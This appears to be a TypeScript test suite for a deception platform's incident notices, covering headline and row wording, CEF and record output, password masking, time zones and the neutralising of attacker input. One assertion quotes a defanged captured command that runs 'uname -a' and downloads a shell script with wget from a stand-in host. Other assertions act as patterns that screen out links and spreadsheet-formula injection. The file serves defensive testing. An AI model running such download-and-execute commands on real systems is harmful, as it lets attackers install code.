import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { toCef } from '../../../src/notify/message/cef.ts';
import { toContent, toHeadline, toLevel, toPlain } from '../../../src/notify/message/content.ts';
import { withoutPasswords } from '../../../src/notify/message/passwords.ts';
import { toRecord } from '../../../src/notify/message/record.ts';
import { hostileNotice, hugeNotice, ordinary, unseen } from '../../support/notify/notices.ts';

describe('what a notice says', () => {
  it('tells what, where, who, when, how sure, why, what to do, and links', () => {
    const content = toContent(withoutPasswords(ordinary));
    assert.equal(
      toHeadline(content, 200),
      '[CRITICAL] New incident: 45.9.148.3 guessed the password of root on ssh-dmz-1 after 212 tries',
    );
    assert.deepEqual(content.rows, [
      { label: 'What', value: 'BruteForce (T1110.001); protocol ssh' },
      { label: 'Where', value: 'ssh on ssh-dmz-1 (Lyon, rack 3), decoy /srv/finance/payroll.xlsx' },
      { label: 'Who', value: '45.9.148.3, Russia, AS64500 Example Hosting' },
      { label: 'Account', value: 'root (a password was captured)' },
      { label: 'When', value: '2026-11-24 11:15 to 11:21 CET' },
      { label: 'How often', value: '213 sign-in attempts on 1 node' },
      { label: 'Assessment', value: 'risk 9 of 10 (critical), 93 % confident' },
    ]);
    assert.deepEqual(content.why, ordinary.reasons);
    const text = toPlain(content);
    assert.match(text, /"uname -a; wget http\[:\]\/\/203\.0\.113\.9\/x\[\.\]sh"/);
    assert.match(text, /What to do: Block the address/);
    assert.match(
      text,
      /Open: https:\/\/decoyverse\.example\.com\/incidents\/inc-0011223344556677\?tab=why&from=mail/,
    );
  });

  it('names the vulnerability that was tried and the protocol that was spoken', () => {
    const vulnerability = {
      id: 'CVE-2021-44228',
      title: 'code by a look-up in a logged text',
      product: 'Apache Log4j',
      kev: true as const,
      strength: 'exploit' as const,
    };
    const whatOf = (found: NonNullable<typeof ordinary.facts>['vulnerability']): string | undefined =>
      toContent({
        ...ordinary,
        facts: { ...ordinary.facts!, protocol: 'http', vulnerability: found },
      }).rows.find(({ label }) => label === 'What')?.value;
    assert.match(
      whatOf(vulnerability) ?? '',
      /CVE-2021-44228 code by a look-up in a logged text, known to be exploited; protocol http$/,
    );
    assert.match(whatOf({ ...vulnerability, strength: 'probe' as const }) ?? '', /probed only/);
    const record = toRecord({ ...ordinary, facts: { ...ordinary.facts!, vulnerability } }, 'd1');
    assert.deepEqual(record.vulnerability, { id: vulnerability.id, title: vulnerability.title });
    assert.equal(toRecord(ordinary, 'd1').vulnerability, null);
  });

  it('says whose machine an address inside is', () => {
    const whoOf = (asset: NonNullable<typeof ordinary.asset>): string | undefined =>
      toContent({ ...ordinary, source_ip: '10.0.3.17', facts: undefined, asset }).rows.find(
        ({ label }) => label === 'Who',
      )?.value;
    const named = { name: 'pc-17', owner: 'M. Jones', role: 'workstation', location: 'Lyon, room 2' };
    assert.equal(whoOf(named), '10.0.3.17, pc-17 (owner M. Jones, workstation, Lyon, room 2)');
    assert.equal(whoOf({ ...named, owner: null, role: null, location: null }), '10.0.3.17, pc-17');
    assert.equal(whoOf({ ...named, name: null, role: null }), '10.0.3.17, owner M. Jones, Lyon, room 2');
    assert.deepEqual(toRecord({ ...ordinary, asset: named }, 'd1').asset, named);
    assert.equal(toRecord(ordinary, 'd1').asset, null);
    const cef = toCef({ ...ordinary, source_ip: '10.0.3.17', asset: named }, 'd1', '1', 1);
    assert.match(cef, / shost=pc-17 .*flexString2=M\. Jones, workstation, Lyon, room 2/);
    assert.doesNotMatch(toCef(ordinary, 'd1', '1', 1), /shost|flexString2/);
  });

  it('leaves out what is not there', () => {
    const content = toContent({
      ...ordinary,
      event_count: 1,
      last_seen: ordinary.first_seen,
      related_decoy: null,
      payload: '',
      techniques: [],
      reasons: [],
      link: null,
      acknowledge: null,
      source_ip: '',
      node_name: '',
      facts: undefined,
    });
    const text = toPlain(content);
    assert.match(
      text,
      /What: BruteForce\nWhere: ssh on node-1234567890abcdef\nWho: unknown\nWhen: 2026-11-24 10:15 UTC\nHow often: once\n/,
    );
    assert.doesNotMatch(text, /Why|Attacker's input|Open:|Account/);
  });

  it('has a level for every risk', () => {
    assert.deepEqual([0, 1, 3, 4, 6, 7, 8, 9, 10].map(toLevel), [
      'info',
      'low',
      'low',
      'medium',
      'medium',
      'high',
      'high',
      'critical',
      'critical',
    ]);
  });

  it('holds nothing of an attacker that could be seen as something else', () => {
    const texts = [toPlain(toContent(hostileNotice)), toHeadline(toContent(hostileNotice), 1000)];
    for (const text of texts) {
      assert.doesNotMatch(
        text.replaceAll('\n', ' ').replace(/(?:Open|Acknowledge): \S*/g, ''),
        /:\/\/|evil\.example|[@＠]\w/,
      );
      assert.ok(!unseen.test(text.replaceAll('\n', ' ')));
    }
    const strings = Object.values(toRecord(hostileNotice, 'msg_1')).flat();
    for (const text of strings.filter((value) => typeof value === 'string')) {
      assert.ok(!unseen.test(text));
      assert.doesNotMatch(text, /^[=+\-@＝＋－＠\t\r]/);
    }
  });

  it('shows a payload without what a sensor made of it', () => {
    const shown = (payload: string) => toContent({ ...ordinary, payload }).payload;
    assert.equal(shown(String.raw`b'root':b'p\xc3\xa4ss\r'`), shown('root:päss'));
    assert.equal(shown('enable\r\n\0'), shown('enable'));
  });

  it('is bounded whatever it is given', () => {
    assert.ok(toPlain(toContent(hugeNotice('x'))).length < 7000);
    assert.ok(JSON.stringify(toRecord(hugeNotice('x'), 'msg_1')).length < 9000);
    assert.ok(toPlain(toContent(hugeNotice('x'), 0.1)).length < 2000);
  });

  it('gives machines the notice field for field', () => {
    const record = toRecord(ordinary, 'msg_1');
    const { facts, acknowledge: _, ...own } = ordinary;
    const { labels, group, place, ...rest } = facts!;
    assert.deepEqual(record, {
      ...own,
      ...rest,
      ...place,
      delivery_id: 'msg_1',
      about: 'incident',
      severity: 'critical',
      node_labels: labels,
      node_group: group,
      asset: null,
      text: null,
      by: null,
    });
  });
});

describe('captured passwords', () => {
  const caught = {
    ...ordinary,
    title: 'root signed in with Winter2026! to ssh of gate',
    payload: 'root:Winter2026!',
    reasons: ['The password Winter2026! was planted.'],
  };

  it('are masked wherever the event quotes them', () => {
    const shown = JSON.stringify([
      toContent(withoutPasswords(caught)),
      toRecord(withoutPasswords(caught), 'msg_1'),
    ]);
    assert.doesNotMatch(shown, /Winter2026/);
    assert.match(shown, /root:\*{8}/);
    assert.match(JSON.stringify(toContent(caught)), /Winter2026!/);
  });

  it('are masked where they are short, a name of their own, or in a form', () => {
    const masked = (payload: string, account: string, password: string): string =>
      withoutPasswords({ ...ordinary, payload, facts: { ...ordinary.facts!, account, password } }).payload;
    assert.equal(masked('root:1', 'root', '1'), 'root:********');
    assert.equal(masked('10.1.1.1 said root/1', 'root', '1'), '10.1.1.1 said root/********');
    assert.equal(masked('admin:admin', 'admin', 'admin'), 'admin:********');
    assert.equal(masked('hunter2', 'root', 'hunter2'), '********');
    assert.equal(masked('user=a&password=hunter2&x=1', 'a', ''), 'user=a&password=********&x=1');
    assert.equal(masked('{"user":"a","pwd": "s3cret"}', 'a', ''), '{"user":"a","pwd": "********"}');
    assert.equal(masked('GET /passwords.txt', 'a', ''), 'GET /passwords.txt');
    assert.equal(masked('root:hunter2', 'root', ''), 'root:********');
    assert.equal(masked('root\0hunter2', 'root', ''), 'root\0********');
    assert.equal(masked('root:x\nroot:y is a list', 'root', ''), 'root:x\nroot:y is a list');
  });

  it('do not cost time, whatever is sent', () => {
    for (const sample of ['pass=', 'password"\t', "pwd = ' "]) {
      const payload = sample.repeat(100_000);
      assert.ok(withoutPasswords({ ...ordinary, payload }).payload.length > 0);
    }
  });
});

describe('times in messages', () => {
  const when = (first_seen: string, last_seen: string, timezone: string): string | undefined =>
    toContent({ ...ordinary, first_seen, last_seen, facts: { ...ordinary.facts!, timezone } }).rows.find(
      ({ label }) => label === 'When',
    )?.value;

  it('are those of the zone, summer and winter', () => {
    const winter = ['2026-01-10T23:30:00.000Z', '2026-01-10T23:59:00.000Z'] as const;
    assert.equal(when(...winter, 'Europe/Berlin'), '2026-01-11 00:30 to 00:59 CET');
    assert.equal(when(...winter, 'America/New_York'), '2026-01-10 18:30 to 18:59 GMT-5');
    assert.equal(
      when('2026-07-10T22:30:00.000Z', '2026-07-10T22:30:30.000Z', 'Europe/Berlin'),
      '2026-07-11 00:30 CEST',
    );
    assert.equal(
      when('2026-03-28T23:00:00.000Z', '2026-03-29T01:00:00.000Z', 'Europe/Berlin'),
      '2026-03-29 00:00 to 03:00 CEST',
    );
    assert.equal(
      when('2026-01-10T20:00:00.000Z', '2026-01-12T20:00:00.000Z', 'Asia/Kolkata'),
      '2026-01-11 01:30 to 2026-01-13 01:30 GMT+5:30',
    );
  });

  it('are UTC where the zone is unknown', () => {
    assert.equal(
      when('2026-01-10T20:00:00.000Z', '2026-01-10T20:00:00.000Z', 'No/Such'),
      '2026-01-10 20:00 UTC',
    );
  });
});
